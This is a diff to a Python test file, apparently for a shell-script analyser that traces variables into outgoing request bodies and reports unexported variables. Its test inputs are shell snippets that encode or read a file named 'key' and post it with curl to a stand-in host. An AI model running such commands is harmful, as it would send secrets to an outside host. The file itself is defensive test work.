@@ -79,15 +79,37 @@ def test_a_signature_that_the_sample_works_out_is_a_loss(signing: str, name: str
     ("before", "value", "name"),
     [
         ('read A B <<< "$X"', "$A", "A"),
+        ("IFS=, read A B <<< 1,2", "$A", "A"),
+        ("IFS=,; read A B <<< 1,2", "$A", "A"),
+        (r"read A <<< 'a\b'", "$A", "A"),
+        ("printf -v A %x 5", "$A", "A"),
         ("set -- 1 2; shift $N", "$1", "ARGUMENT_1"),
         ("A=1; for A in 2 3; do :", "$A", "A"),
         ("A=$(base64 < key)", "$A", "A"),
+        ("A=$(echo a | cat key -)", "$A", "A"),
+        ("A=$(echo ab | tr a b)", "$A", "A"),
         ("A=$(openssl base64 < key)", "$A", "A"),
     ],
 )
 def test_what_no_rule_shows_is_a_variable(before: str, value: str, name: str) -> None:
     read = reading.read(Source("script", f'{before}; curl https://x.example/send -d "a={value}"'))
     assert read.request.body == f"a={stand_in(name)}".encode()
+
+
+@pytest.mark.parametrize(
+    ("before", "unseen"),
+    [
+        ("A=1", True),
+        ("declare A=1", True),
+        ("declare -x A=1", False),
+        ("A=1; export A", False),
+        ("set -a; A=1", False),
+        ("set -a; set +a; A=1", True),
+        ("set -a; set -e; A=1", False),
+    ],
+)
+def test_what_a_text_for_another_shell_does_not_see_is_reported(before: str, unseen: bool) -> None:
+    assert ("not-exported" in ids(f"""{before}; bash -c '{SEND} -d "text=$A"' """)) == unseen
 
 
 def test_a_variable_of_one_command_is_seen_by_the_text_that_it_runs() -> None:
